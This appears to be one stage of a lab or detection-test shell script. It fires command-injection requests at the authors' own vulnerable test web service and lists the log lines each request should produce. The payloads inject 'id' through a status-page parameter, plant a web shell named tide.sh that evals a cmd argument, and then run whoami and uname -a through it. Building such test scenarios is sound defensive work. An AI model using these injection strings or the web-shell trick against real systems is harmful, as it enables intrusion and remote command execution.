# A known flaw in our own test service: a request parameter reaches a shell, and a page that runs commands is left behind.

ask() { in_host outside1 curl -s -m 10 -A 'curl/7.88.1' --interface "$GUESSER" "http://$WEB$1" >> "$RUN/sessions.log" 2>&1 || true; sleep 1; }

begin_stage service-flaw 3 hts-web1 "$GUESSER" htsweb 'Command injection in the status page, then a page that runs commands'
page='/status?host=hts-time1;id'
did "GET $page" web1:access "\"GET $page HTTP/1.1\" 200" web1:audit 'comm="id" exe="/usr/bin/id"'
ask "$page"
page='/status?host=x;printf%20%27eval%20%22$CMD%22%27%3Etide.sh;ls%20-l'
did "GET $page" web1:access "\"GET $page HTTP/1.1\" 200" web1:audit 'a0="ls" a1="-l"'
ask "$page"
page='/uploads/tide.sh?cmd=whoami'
did "GET $page" web1:access "\"GET $page HTTP/1.1\" 200" web1:audit 'a0="sh" a1="./tide.sh"' web1:audit 'a0="whoami"'
ask "$page"
page='/uploads/tide.sh?cmd=uname%20-a'
did "GET $page" web1:access "\"GET $page HTTP/1.1\" 200" web1:audit 'a0="uname" a1="-a"'
ask "$page"
end_stage
